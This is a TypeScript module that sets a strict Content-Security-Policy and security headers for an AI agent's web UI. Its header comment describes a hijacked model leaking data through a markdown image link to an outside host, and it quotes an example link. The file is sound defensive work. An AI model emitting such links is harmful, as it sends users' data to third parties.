/**
 * The UI's Content-Security-Policy. The agent's answers are untrusted text rendered in the page: a
 * model turned against the user can put `![x](http://host/?k=...)` in one, and the browser would
 * send that URL the moment it renders. So the page may load scripts, styles, images, fonts,
 * workers and connections from its own origin only (images and fonts also data:/blob:), and no
 * other page may frame it.
 *
 * The built UI (a Next.js static export) carries a few inline bootstrap scripts: each is allowed
 * by its SHA-256 hash, taken from the built HTML at start, never by 'unsafe-inline'. Styles do need
 * 'unsafe-inline': Monaco and Radix set style elements and attributes at run time (same-origin
 * text, no fetch).
 */
import { createHash } from "node:crypto";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { FastifyInstance } from "fastify";

const INLINE_SCRIPT = /<script(?![^>]*\bsrc=)[^>]*>([\s\S]*?)<\/script>/gi;

/** The hash source of every inline script in the HTML files at the top of `frontendDir`. */
export function inlineScriptHashes(frontendDir: string): string[] {
  const hashes = new Set<string>();
  let names: string[];
  try {
    names = readdirSync(frontendDir).filter((name) => name.endsWith(".html"));
  } catch {
    return [];
  }
  for (const name of names) {
    const html = readFileSync(join(frontendDir, name), "utf8");
    for (const match of html.matchAll(INLINE_SCRIPT)) {
      if (match[1].length === 0) continue;
      hashes.add(`'sha256-${createHash("sha256").update(match[1], "utf8").digest("base64")}'`);
    }
  }
  return [...hashes].sort();
}

export function contentSecurityPolicy(scriptHashes: string[]): string {
  return [
    "default-src 'self'",
    `script-src 'self'${scriptHashes.map((h) => ` ${h}`).join("")}`,
    "style-src 'self' 'unsafe-inline'",
    "img-src 'self' data: blob:",
    "font-src 'self' data:",
    "connect-src 'self'",
    "worker-src 'self' blob:",
    "object-src 'none'",
    "base-uri 'none'",
    "form-action 'self'",
    "frame-ancestors 'none'",
  ].join("; ");
}

/** Headers every response carries: the policy, no framing, no type sniffing, no referrer sent away. */
export function securityHeaders(frontendDir: string): Record<string, string> {
  return {
    "content-security-policy": contentSecurityPolicy(inlineScriptHashes(frontendDir)),
    "x-frame-options": "DENY",
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
  };
}

/** Every response carries the headers above (registered before the routes, so all of them do). */
export function registerSecurityHeaders(app: FastifyInstance, frontendDir: string): void {
  const headers = securityHeaders(frontendDir);
  app.addHook("onSend", async (_request, reply) => {
    reply.headers(headers);
  });
}
